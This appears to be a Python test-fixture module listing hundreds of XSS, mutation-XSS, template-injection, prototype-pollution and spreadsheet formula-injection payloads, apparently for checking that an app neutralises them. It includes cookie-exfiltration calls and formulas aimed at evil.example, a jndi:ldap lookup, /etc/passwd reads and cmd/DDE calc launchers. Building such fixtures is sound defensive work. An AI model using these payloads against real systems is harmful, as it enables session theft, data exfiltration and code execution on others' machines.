"""Texts that become something else where they are not taken as text: markup, scripts, templates, formulas.

Each of `PAYLOADS` calls `pwn` with its number, which a test gives to the page, or opens a dialog, goes
elsewhere or asks `evil.example`.
"""

_CALL = "pwn(0)"

# Script elements, in every disguise that a filter might let through.
_SCRIPTS = """
<script>pwn(0)</script>
</script><script>pwn(0)</script>
<ScRiPt>pwn(0)</sCrIpT>
<script⏎>pwn(0)</script⏎>
<script/x>pwn(0)</script>
<script/src=data:,pwn(0)></script>
<script src="data:text/javascript,pwn(0)"></script>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js" async></script>
<script type=module>import("data:text/javascript,pwn(0)")</script>
<script type=text/javascript>pwn(0)</script>
<script type="importmap">{"imports":{"x":"data:text/javascript,pwn(0)"}}</script>
<script language=javascript>pwn(0)</script>
<<script>pwn(0)//<</script>
<script>pwn(0)//
<script>/*</script>*/pwn(0)</script>
<scr<script>ipt>pwn(0)</scr</script>ipt>
<script>window["pwn"](0)</script>
<script>eval(atob("cHduKDAp"))</script>
<script>Function("pwn(0)")()</script>
<script>setTimeout("pwn(0)")</script>
<script>alert(0)</script>
<script>confirm(0)</script>
<script>prompt(0)</script>
<script>location="https://evil.example/"</script>
<script>top.location="https://evil.example/"</script>
<script>document.write("<img src=x onerror=pwn(0)>")</script>
<script>fetch("https://evil.example/?"+document.cookie)</script>
<script>new Image().src="https://evil.example/?0"</script>
<script>navigator.sendBeacon("https://evil.example/","0")</script>
<script>new WebSocket("wss://evil.example/")</script>
<script>open("https://evil.example/")</script>
<noscript><p title="</noscript><img src=x onerror=pwn(0)>">
<script>`${pwn(0)}`</script>
&lt;script&gt;pwn(0)&lt;/script&gt;
%3Cscript%3Epwn(0)%3C/script%3E
\\u003cscript\\u003epwn(0)\\u003c/script\\u003e
\\x3cscript\\x3epwn(0)\\x3c/script\\x3e
&#60;script&#62;pwn(0)&#60;/script&#62;
"""

# Elements that act by an event of their own, without anybody touching them.
_EVENTS = """
<img src=x onerror=pwn(0)>
<img src=x onerror="pwn(0)">
<IMG SRC=x ONERROR=pwn(0)>
<img/src=x/onerror=pwn(0)>
<img src=x onerror=pwn(0)//
<img src=x:x onerror=pwn(0)>
<img src=`x`onerror=pwn(0)>
<img srcset=x onerror=pwn(0)>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=pwn(0)>
<image src=x onerror=pwn(0)>
<img src=https://evil.example/pixel.gif>
<body onload=pwn(0)>
<body onpageshow=pwn(0)>
<svg onload=pwn(0)>
<svg/onload=pwn(0)>
<svg onload=pwn(0)//
<style onload=pwn(0)></style>
<link rel=stylesheet href=x onerror=pwn(0)>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<link rel=preload as=script href=https://evil.example/x.js>
<link rel=import href=https://evil.example/x.html>
<link rel=icon href=https://evil.example/icon.png>
<video src=x onerror=pwn(0)></video>
<video><source onerror=pwn(0)></video>
<video poster=https://evil.example/x.png></video>
<audio src=x onerror=pwn(0)></audio>
<audio autoplay src=https://evil.example/x.mp3></audio>
<object data=x onerror=pwn(0)></object>
<embed src=x onerror=pwn(0)>
<input autofocus onfocus=pwn(0)>
<select autofocus onfocus=pwn(0)>
<textarea autofocus onfocus=pwn(0)>
<button autofocus onfocus=pwn(0)>go</button>
<details open ontoggle=pwn(0)>
<details name=x open ontoggle=pwn(0)><summary>x</summary></details>
<marquee onstart=pwn(0)>x</marquee>
<keygen autofocus onfocus=pwn(0)>
<div onmouseover=pwn(0) style=position:fixed;inset:0>over</div>
<a onmouseenter=pwn(0) href=#>over</a>
<div onpointerenter=pwn(0) style=position:fixed;inset:0>x</div>
<p tabindex=1 onfocus=pwn(0) autofocus>x</p>
<x contenteditable autofocus onfocus=pwn(0)>x</x>
<x onanimationstart=pwn(0) style=animation:spin>x</x>
<x ontransitionend=pwn(0) style=transition:color>x</x>
<div oncontentvisibilityautostatechange=pwn(0) style=content-visibility:auto>x</div>
<dialog open onclose=pwn(0)><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=pwn(0)>x</div>
<frameset onload=pwn(0)>
<table background=https://evil.example/x.png>
<bgsound src=https://evil.example/x.mid>
"""

# What closes the attribute, the element or the section that a text stands in, and goes on.
_BREAKERS = """
" onmouseover="pwn(0)
' onmouseover='pwn(0)
" autofocus onfocus="pwn(0)
' autofocus onfocus='pwn(0)
"><img src=x onerror=pwn(0)>
'><img src=x onerror=pwn(0)>
"/><svg onload=pwn(0)>
` onmouseover=`pwn(0)
x onerror=pwn(0)
x"onerror="pwn(0)
" style="position:fixed;inset:0" onmouseover="pwn(0)
" formaction="javascript:pwn(0)
" srcdoc="<script>pwn(0)</script>
</title><script>pwn(0)</script>
</textarea><script>pwn(0)</script>
</style><script>pwn(0)</script>
</noscript><script>pwn(0)</script>
</iframe><script>pwn(0)</script>
</template><script>pwn(0)</script>
</pre><script>pwn(0)</script>
</select><script>pwn(0)</script>
</td></tr></table><script>pwn(0)</script>
</svg><script>pwn(0)</script>
</desc></svg><img src=x onerror=pwn(0)>
</time></p></main><img src=x onerror=pwn(0)>
</option></select><img src=x onerror=pwn(0)>
--><script>pwn(0)</script>
--!><script>pwn(0)</script>
<!--><script>pwn(0)</script>
<!-- <script> --> <img src=x onerror=pwn(0)>
<!--<script>
]]><script>pwn(0)</script>
<![CDATA[<script>pwn(0)</script>]]>
?><script>pwn(0)</script>
"}</script><script>pwn(0)</script>
"}];pwn(0);//
'];pwn(0);//
');pwn(0);//
");pwn(0);//
\\");pwn(0);//
\\';pwn(0);//
*/pwn(0)/*
//\u2028pwn(0)
//\u2029pwn(0)
"-pwn(0)-"
'-pwn(0)-'
`-pwn(0)-`
${pwn(0)}
`+pwn(0)+`
"+pwn(0)+"
{"x":"</script><img src=x onerror=pwn(0)>"}
"""

# SVG and MathML, and what a parser makes of markup that moves between them and HTML (mutation XSS).
_FOREIGN = """
<svg><script>pwn(0)</script></svg>
<svg><script href=data:,pwn(0) /></svg>
<svg><script xlink:href=data:,pwn(0)></script></svg>
<svg><a xlink:href="javascript:pwn(0)"><text y=20>x</text></a></svg>
<svg><animate onbegin=pwn(0) attributeName=x dur=1s>
<svg><set onbegin=pwn(0) attributeName=x to=1>
<svg><animate attributeName=href values=javascript:pwn(0) /><a id=x>x</a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(0)>#x"/></svg>
<svg><image href=x onerror=pwn(0)></svg>
<svg><image href=https://evil.example/x.png></svg>
<svg><foreignObject><img src=x onerror=pwn(0)></foreignObject></svg>
<svg><style><img src=x onerror=pwn(0)></style></svg>
<svg><desc><img src=x onerror=pwn(0)></desc></svg>
<svg><title><img src=x onerror=pwn(0)></title></svg>
<svg><discard onbegin=pwn(0)>
<svg><handler type=text/javascript>pwn(0)</handler></svg>
<math><mi xlink:href="javascript:pwn(0)">x</mi></math>
<math href="javascript:pwn(0)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=pwn(0)></style></mglyph></table></mtext></math>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(0)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(0)>
<svg></p><style><a id="</style><img src=x onerror=pwn(0)>">
<math><annotation-xml encoding="text/html"><img src=x onerror=pwn(0)></annotation-xml></math>
<noembed><img title="</noembed><img src=x onerror=pwn(0)>"></noembed>
<xmp><img title="</xmp><img src=x onerror=pwn(0)>"></xmp>
<listing>&lt;img src=x onerror=pwn(0)&gt;</listing>
<plaintext><img src=x onerror=pwn(0)>
<select><style></select><img src=x onerror=pwn(0)></style></select>
<table><td><style><img src=x onerror=pwn(0)></style>
<template><img src=x onerror=pwn(0)></template>
<template shadowrootmode=open><img src=x onerror=pwn(0)></template>
<x is=x><img src=x onerror=pwn(0)>
<svg><![CDATA[><img src=x onerror=pwn(0)>]]></svg>
"""

# Addresses that are code, frames, forms and what moves the page elsewhere.
_ADDRESSES = """
javascript:pwn(0)
JaVaScRiPt:pwn(0)
 javascript:pwn(0)
java\tscript:pwn(0)
java⏎script:pwn(0)
javascript://%0apwn(0)
javascript&colon;pwn(0)
javascript&#58;pwn(0)
&#106;avascript:pwn(0)
vbscript:pwn(0)
data:text/html,<script>pwn(0)</script>
data:text/html;base64,PHNjcmlwdD5wd24oMCk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(0)'/>
blob:https://evil.example/0
file:///etc/passwd
//evil.example/
https://evil.example/?0
/\\evil.example/
<a href="javascript:pwn(0)">click</a>
<a href=javascript&colon;pwn(0)>click</a>
<a href="data:text/html,<script>pwn(0)</script>">click</a>
<a href=https://evil.example/ ping=https://evil.example/ping>click</a>
<iframe src="javascript:pwn(0)"></iframe>
<iframe srcdoc="<script>parent.pwn(0)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwn(0)&gt;"></iframe>
<iframe src=https://evil.example/></iframe>
<iframe onload=pwn(0)></iframe>
<fencedframe></fencedframe><portal src=https://evil.example/>
<object data="javascript:pwn(0)"></object>
<object data="data:text/html,<script>pwn(0)</script>"></object>
<embed src="javascript:pwn(0)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(0)'/>">
<form action="javascript:pwn(0)"><button autofocus>go</button></form>
<form action=https://evil.example/><input name=x value=0><button>go</button></form>
<button formaction="javascript:pwn(0)" form=f>go</button>
<input type=image src=x formaction=javascript:pwn(0)>
<isindex action=javascript:pwn(0) type=image>
<base href=https://evil.example/>
<base href="javascript:pwn(0)//">
<base target=_blank>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:pwn(0)">
<meta http-equiv=Set-Cookie content="x=0">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-pwn(0)+ADw-/script+AD4-
<link rel=canonical href=https://evil.example/>
<portal src=javascript:pwn(0)>
"""

# Templates, names that shadow what scripts rely on, styles, and what Plotly, Vega, TeX and Markdown read.
_LANGUAGES = """
{{7*7}}{{pwn(0)}}
{{ self.__init__.__globals__.__builtins__ }}{{ pwn(0) }}
{{constructor.constructor("pwn(0)")()}}
{{request.application.__globals__}}
{% for x in (1).__class__.__mro__ %}{{x}}{% endfor %}
{% include "/etc/passwd" %}
{# a comment #}pwn(0)
${{7*7}}
#{7*7}
<%= 7*7 %>
<% pwn(0) %>
[[${7*7}]]
@{7*7}
*{7*7}
{{{pwn(0)}}}
{{&pwn(0)}}
<x v-html="'<img src=x onerror=pwn(0)>'">
<x ng-app ng-init="constructor.constructor('pwn(0)')()">
<x x-data x-init="pwn(0)">
<x hx-get=https://evil.example/ hx-trigger=load>
%{x}{y} %(x)s %s {0.__class__} {x!r}
{0.__class__.__init__.__globals__}
$(id) `id` ; id | id && id
${jndi:ldap://evil.example/0}
<form id=pwn><input name=nodeName></form>
<img name=document><img name=location>
<a id=defaultView href=https://evil.example/>x</a>
<form name=body><input name=innerHTML></form>
<x id=again data-again=0>x</x>
__proto__
constructor
prototype
toString
hasOwnProperty
__proto__[pwn]
constructor.prototype.pwn
{"__proto__":{"pwn":0}}
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example/x.png)}</style>
<style>*{display:none}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>
<x style="background:url(https://evil.example/x.png)">x</x>
<x style=behavior:url(https://evil.example/x.htc)>x</x>
<x style=width:expression(pwn(0))>x</x>
<x style=-moz-binding:url(https://evil.example/x.xml#x)>x</x>
};*{display:none}/*
<a href="https://evil.example/">plotly draws links</a>
<a href="javascript:pwn(0)" target=_top>plotly draws links</a>
<b>bold</b><br><sup>plotly draws these</sup>
<span style="font-size:900px">plotly draws styles</span>
%{customdata[0]}<extra>pwn(0)</extra>
%{x|%d}%{meta.pwn}
$\\href{javascript:pwn(0)}{tex}$
$\\unicode{x3c}script$
datum["pwn"](0)
{"expr":"pwn(0)"}
{"signal":"warn(pwn(0))"}
{"$schema":"https://evil.example/vega.json"}
![x](https://evil.example/pixel.png)
[click](javascript:pwn(0))
[click](<javascript:pwn(0)>)
<javascript:pwn(0)>
<https://evil.example/>
| a | b |⏎|---|---|⏎| pwn(0) | x |
# a heading pwn(0)
```html⏎<script>pwn(0)</script>⏎```
***
"""

# Other letters that some step might turn into markup, and letters that hide or turn what is read.
_LETTERS = """
\uff1cscript\uff1epwn(0)\uff1c/script\uff1e
\u2039script\u203apwn(0)\u2039/script\u203a
\u00abscript\u00bbpwn(0)
\u02bascript\u02bapwn(0)
<\u0073cript>pwn(0)</\u0073cript>
<scr\u0130pt>pwn(0)</scr\u0130pt>
<\u017fcript>pwn(0)</\u017fcript>
<img src=x onerror=pwn(0)\u00a0>
<img\u000csrc=x\u000conerror=pwn(0)>
<img\u00a0src=x onerror=pwn(0)>
<img src=x onerror\u200b=pwn(0)>
\u202e<script>pwn(0)</script>
\u2066<img src=x onerror=pwn(0)>\u2069
\ufeff<script>pwn(0)</script>
e\u0301\u0301\u0301\u0301\u0301\u0301<img src=x onerror=pwn(0)>
\u0001<script>pwn(0)</script>
\u007f<img src=x onerror=pwn(0)>
\U0001f600<svg onload=pwn(0)>
\U000e0041\U000e0042<svg onload=pwn(0)>
\u0644\u0627<img src=x onerror=pwn(0)>
"""

_FAMILIES = (_SCRIPTS, _EVENTS, _BREAKERS, _FOREIGN, _ADDRESSES, _LANGUAGES, _LETTERS)


def _numbered() -> tuple[str, ...]:
    # Not splitlines: some of them hold a separator of lines. An arrow stands for a line end.
    found = [line for family in _FAMILIES for line in family.strip("\n").split("\n") if line]
    return tuple(
        text.replace(_CALL, f"pwn({number})").replace("⏎", "\n") for number, text in enumerate(found)
    )


PAYLOADS = _numbered()

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    '""=1+1',
    "=1+1;=1+1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    'x";=1+1;"',
    'x","=1+1',
    "x\n=1+1",
    "x\r\n  =1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=IMAGE("https://evil.example/?"&A1)',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=\u202e1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\u22121+cmd|x",
    "%0A=1+1\n=1+1",
    "=@SUM(1,1)",
    "+-+-1+1",
)
